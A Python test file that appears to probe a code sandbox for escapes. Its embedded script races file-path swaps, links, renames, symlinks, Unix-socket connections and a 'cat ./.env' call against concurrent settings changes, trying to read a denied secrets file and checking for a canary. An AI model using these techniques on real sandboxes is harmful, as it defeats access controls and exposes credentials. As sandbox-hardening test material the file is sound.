# SPDX-License-Identifier: Apache-2.0
"""Threads open and connect to what is denied while the settings of their session change"""

import threading

from box import Box

BREAKS = ("docs/sandbox.md", "Only then there is an answer, and only then they are the session's")
ONLY = ["*+S"]

CODE = """
import ctypes, threading, time, socket, subprocess
got, end = set(), time.monotonic() + 4
libc = ctypes.CDLL(None, use_errno=True)
good, bad = b'./marks.jsonl', b'././././.env\\0'
shared = ctypes.create_string_buffer(good, 64)
def flip():
    while time.monotonic() < end:
        ctypes.memmove(shared, bad, len(bad)); ctypes.memmove(shared, good + b'\\0', len(good) + 1)
def opens():
    while time.monotonic() < end:
        for number in (257,):
            fd = libc.syscall(number, -100, shared, 0, 0)
            if fd >= 0:
                text = os.read(fd, 99); os.close(fd)
                if b'CANARY' in text: got.add('open')
def links():
    n = 0
    while time.monotonic() < end:
        n += 1
        for act in (lambda: os.link('.env', f'h{n}'), lambda: os.rename('.env', f'm{n}'),
                    lambda: os.symlink('.env', f's{n}')):
            w.tried(act)
        for name in (f'h{n}', f'm{n}', f's{n}'):
            if 'CANARY' in (w.tried(lambda: w.read(name)) or ''): got.add(name[0])
            w.tried(lambda: os.unlink(name))
def dials():
    while time.monotonic() < end:
        for path in w.below_runtime('*.sock'):
            if path.endswith('tools.sock'): continue
            s = socket.socket(socket.AF_UNIX)
            if w.tried(lambda: (s.connect(path), 1)): got.add(path)
            s.close()
def runs():
    while time.monotonic() < end:
        text = subprocess.run(['/bin/cat', './.env'], capture_output=True).stdout
        if b'CANARY' in text: got.add('a program')
threads = [threading.Thread(target=t) for t in (flip, opens, opens, links, dials, runs)]
[t.start() for t in threads]; [t.join() for t in threads]
print('GOT', sorted(got))
"""


def settings(more: list[str], hosts: list[str]) -> dict[str, object]:
    files = {"denyRead": [".env"], "allowWrite": [".", *more], "denyWrite": []}
    network = {"allowedDomains": hosts, "deniedDomains": [], "allowLocalBinding": bool(hosts)}
    return {"settings": {"network": network, "filesystem": files}}


def attack(box: Box) -> str:
    session = box.session()
    box.cell("1", session)
    told: list[str] = []
    thread = threading.Thread(target=lambda: told.append(box.cell(CODE, session, ends=True)))
    thread.start()
    path = f"/v1/sessions/{session}/sandbox"
    while thread.is_alive():
        for body in settings(["/tmp/more"], ["example.com"]), settings([], []):
            box.call("PUT", path, body)
    return told[0] if told and "GOT []" not in told[0] else ""
